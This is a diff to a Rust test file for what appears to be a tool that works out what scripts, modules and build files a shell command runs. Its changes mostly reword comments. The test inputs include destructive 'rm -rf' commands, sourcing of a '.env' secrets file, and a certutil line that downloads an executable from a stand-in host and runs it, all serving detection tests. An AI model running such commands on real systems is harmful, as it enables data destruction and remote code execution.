@@ -1,4 +1,5 @@
-//! What files with code do that a command runs: what they hold when they are looked at, unless the call changes them before.
+//! Effects of files with code that a command runs: the effects of their current contents, unless the call changes them
+//! before.
 
 #[path = "../shared/call.rs"]
 mod call;
@@ -14,7 +15,7 @@ use castellan_facts::{Setting, analyse};
 use machine::Machine;
 use there::THERE;
 
-/// `delete PATH`, `download URL` and what is opaque, with `in SCRIPT` for what a file does.
+/// `delete PATH`, `download URL` and Opaque effects, with `in SCRIPT` for the effects of a file.
 fn shown(text: &str, setting: &Setting) -> String {
     let facts = analyse(&call::shell("codex", text), setting, &mut Recorder::new(&Machine(THERE)));
     let mut lines = BTreeSet::new();
@@ -42,14 +43,14 @@ fn a_module_that_stands_there_is_what_runs() {
     check("python3 -m mymod", "delete /w/out in /w/mymod.py");
     check("python3 -Wignore -um mymod x", "delete /w/out in /w/mymod.py");
     check("python3 -m pack", "delete /w/a in /w/pack/__init__.py; delete /w/b in /w/pack/__main__.py");
-    // It is found before the library's own.
+    // Python finds it before the library's own module.
     check("python3 -m json.tool x.json", "delete /w/c in /w/json/tool.py");
     check("python3 -m http.server 80", "");
     check("python3 pack", "delete /w/b in /w/pack/__main__.py");
     check("python3 ./pack/", "delete /w/b in /w/pack/__main__.py");
     check("python3 sub", "opaque code file in /w/sub/__main__.py");
     check("python3 app.zip", "opaque code encoding in /w/app.zip");
-    // The module is the file that the call writes.
+    // The call writes the module's file.
     check("echo 'import os; os.remove(\"/w/d\")' > fresh.py; python3 -m fresh", "delete /w/d in /w/fresh.py");
     check(
         "echo 'print(1)' > fresh.py; cp x fresh.py; python3 -m fresh",
@@ -83,7 +84,7 @@ fn what_a_test_runner_loads_is_read_where_the_session_wrote_it() {
         &[],
         &format!("{FIX}; opaque code shadowed in /w/test_b.py"),
     );
-    // What is compiled is not read. That it runs, and where it is from, is an effect.
+    // Compiled code is not read. Its run and its origin are effects.
     check("cargo test", &["/w/src/lib.rs"], WRAPPED);
     check("cargo build", &["/w/build.rs"], &format!("{WRAPPED}; opaque code language"));
     check("cargo run -- a.b", &["/w/src/main.rs"], WRAPPED);
@@ -109,7 +110,7 @@ fn what_a_tool_loads_by_its_name_is_read_whoever_wrote_it() {
     check("pytest -q deep/a/test_x.py::test_y", &format!("delete /w/deeper in /w/deep/a/conftest.py; {FIX}"));
     check("cd deep && pytest a", "delete /w/deeper in /w/deep/a/conftest.py");
     check("pytest --version", "");
-    // However deep it lies; over the limit that is not known.
+    // At any depth; above the limit the result is Opaque.
     check(
         &format!("pytest {}x.py", "d/".repeat(20)),
         &format!("delete /w/far in /w{}/conftest.py; {FIX}", "/d".repeat(20)),
@@ -125,7 +126,7 @@ fn what_a_tool_loads_by_its_name_is_read_whoever_wrote_it() {
     check("cargo fmt", "");
     check("pip install left", "");
     check("pip install -e ./deep", "delete /w/egg in /w/deep/setup.py");
-    // What runs is said of what is not read.
+    // Unread code is reported with its file.
     let ran = |text: &str| {
         let setting = Setting { workspace: "/w".to_owned(), ..Setting::default() };
         let facts = analyse(&call::shell("codex", text), &setting, &mut Recorder::new(&Machine(THERE)));
@@ -135,9 +136,9 @@ fn what_a_tool_loads_by_its_name_is_read_whoever_wrote_it() {
     assert_eq!(ran("cd crates/a && cargo test"), ["/w/crates/a/build.rs"]);
     assert_eq!(ran("cargo test"), ["/w/crates/a/build.rs"]);
     assert_eq!(ran("cargo fmt"), [""; 0]);
-    // Nor of what the call may have changed before.
+    // Files that the call may have changed before are not read.
     check("cp -r /x/. . && vite build", "");
-    // A formatter changes nothing of what it does.
+    // A formatter does not change the effects of code.
     check("prettier --write . ; eslint .", "delete /w/lint in /w/.eslintrc.js");
 }
 
@@ -178,7 +179,7 @@ fn modules_that_a_program_names_are_read() {
     }
     check("pytest -p mymod", &format!("delete /w/fix in /w/conftest.py; {OUT}"));
     check("invoke x", "delete /w/out in /w/tasks.py");
-    // What is there by its usual name is read even where an option names another one.
+    // A file with the usual name is read even if an option names another file.
     check("invoke -c mymod x", &format!("{OUT}; delete /w/out in /w/tasks.py"));
     check("gawk -i ./part.awk 1", "delete /w/out in /w/part.awk");
     check("gawk -i inplace 1 x", "");
@@ -230,9 +231,9 @@ fn a_script_with_the_name_of_a_known_program_is_what_runs() {
     check("sudo ./ls", "delete /w/s in /w/ls");
     check("./cat", "delete /w/c in /w/cat");
     check("./head", "opaque code input");
-    // One that is no text is a program that nothing is known of, as any other.
+    // A file that is not text is a program without known effects, like any other.
     check("./du", "");
-    // Where tools put programs, the name means the program.
+    // In the usual directories of tools the name means the program.
     check("./node_modules/.bin/ls", "");
     check("./gradlew build", "");
     check("ls", "");
@@ -250,7 +251,7 @@ fn a_file_is_given_the_arguments_of_its_command() {
     check("python3 args.py \"$X\"", "delete  in /w/args.py; opaque target variable in /w/args.py");
     check("ruby args.rb 'rm -rf /w/out'", "delete /w/out in /w/args.rb");
     check("ruby args.rb \"$X\"", "opaque code variable in /w/args.rb");
-    // What another program is given is not known.
+    // The arguments of another program are unknown.
     check("python3 uses.py /w/a", "delete  in /w/args.py; opaque target dynamic in /w/args.py");
 }
 
@@ -309,10 +310,10 @@ fn a_task_does_what_its_file_says() {
     );
     check("make -C /w clean", "delete /w/out in /w/Makefile");
     check("cd /; make -C w clean", "delete /w/out in /w/Makefile");
-    // What a file of secrets holds is not looked at.
+    // The contents of a file with secrets are not read.
     check("make -f secret.mk", "delete /w/out in /w/secret.mk; opaque code file in /w/secret.mk");
     check("make -f absent.mk", "delete /w/out in /w/absent.mk");
-    // Where it looks is not known.
+    // The directory is unknown.
     check("make -C $X clean", "opaque code file; opaque program dynamic");
     check("make other", "");
     check("make -n clean", "");
@@ -321,7 +322,7 @@ fn a_task_does_what_its_file_says() {
         let of = |role: &str| format!("opaque {role} {why} in /w/Makefile");
         format!("delete  in /w/Makefile; {}; {}", of("operand"), of("target"))
     };
-    // In quotes it is one argument, and no option.
+    // In quotes it is one argument, and not an option.
     check("make quoted", "delete  in /w/Makefile; opaque target dynamic in /w/Makefile");
     check("make home", "delete /home/u/x in /w/Makefile");
     check("HOME=/h make home", "delete /h/x in /w/Makefile");
@@ -364,13 +365,13 @@ fn nothing_runs_of_a_file_that_is_not_there() {
     let full = Setting { written_is_full: true, ..project.clone() };
     for (text, setting, is_missing) in [
         ("npm run half", &project, true),
-        // Where the project lies is not known, nor what the session wrote.
+        // The place of the project is unknown, or the paths that the session wrote.
         ("npm run half", &Setting::default(), false),
         ("npm run half", &full, false),
-        // Who types a name knows a file of that name, or comes to make it.
+        // A user who types a name has a file of that name, or is about to create it.
         ("bash none.sh", &project, false),
         ("node -e 'require(\"./none\")'", &project, false),
-        // Something may make it.
+        // Another command may create the file.
         ("npm run bring", &project, false),
         ("sleep 9; npm run half", &project, false),
         ("npm run half & ls", &project, false),
@@ -401,7 +402,7 @@ fn what_cannot_be_read_is_code_that_is_not_known() {
     check("bash long.sh", "opaque code unreadable");
     check("bash missing.sh", "opaque code file");
     check("source missing.sh", "opaque code file");
-    // What it holds would be told.
+    // The contents of a secret must not be reported.
     check("source .env", "opaque code file");
 }
 
@@ -425,22 +426,22 @@ fn what_the_call_itself_puts_there_is_what_runs() {
         "echo 'rm -rf /w/a' | tee -i $X new.sh; bash new.sh",
         "delete /w/a in /w/new.sh; opaque operand variable; opaque target variable",
     );
-    // What is written on another machine is not here, unless that has the same files.
+    // A write on another machine does not change local files, unless both share the files.
     let both = "delete /w/b in /w/lone.sh; opaque code shadowed";
     check("ssh h 'echo ls > /w/lone.sh'; bash lone.sh", both);
     check("docker exec c tee /w/lone.sh <<< ls; bash lone.sh", both);
     check("echo ls > new.sh; ssh h ls; bash new.sh", "");
-    // Of a file that is there writing may fail: it may be write-protected.
+    // Writing to an existing file may fail: it may be write-protected.
     check("echo 'rm -rf /w/a' > calm.sh; bash calm.sh", "delete /w/a in /w/calm.sh; opaque code shadowed");
     check("echo ls > fifo.sh; cat fifo.sh | bash", "opaque code file");
-    // What a shell reads that a program starts.
+    // Input of a shell that a program starts.
     let program = "import subprocess\nsubprocess.run('sh', shell=True, input='rm -rf /w/a')";
     check(&format!("python3 -c \"{program}\""), "delete /w/a");
     check("python3 -c \"import os; os.popen('sh', 'w').write('ls')\"", "opaque code input");
     // Two names of one file.
     check("echo ls > fresh.sh; echo 'rm -rf /w/a' > alias.sh; bash fresh.sh", "opaque code shadowed");
     check("set -C; echo 'rm -rf /w/a' > new.sh; echo ls > new.sh; bash new.sh", "delete /w/a in /w/new.sh");
-    // Ways that the walk does not follow: what was read is not what runs.
+    // Changes that the walk does not follow: the read contents differ from those that run.
     let url = "https://b.example/x";
     check(
         &format!("cmd /c 'certutil -urlcache -f {url} x.exe & x.exe'"),
